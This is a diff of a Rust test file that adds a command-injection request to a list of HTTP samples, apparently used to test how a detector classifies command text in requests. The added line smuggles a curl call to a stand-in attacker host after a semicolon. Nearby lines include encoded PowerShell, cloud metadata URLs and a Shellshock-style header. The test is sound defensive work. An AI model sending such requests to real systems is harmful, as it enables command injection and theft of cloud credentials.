@@ -148,6 +148,7 @@ fn text_commands_and_excluded_headers_are_mentions() {
         format!("GET /run?c=x{encoded}"),
         format!("GET /run?c=powershell+-enc+{utf16}"),
         format!("POST /run\n\n{{\"cmd\":\"{encoded}\"}}"),
+        "GET /run?c=;curl+http://imds.attacker.example/latest/user-data".to_owned(),
         "GET /\nReferer: http://169.254.169.254/latest/user-data".to_owned(),
         "GET /\nCookie: next=http%3A%2F%2F169.254.169.254%2Flatest%2Fuser-data".to_owned(),
         "GET /\nUser-Agent: () { :; }; curl http://169.254.169.254/latest/user-data".to_owned(),
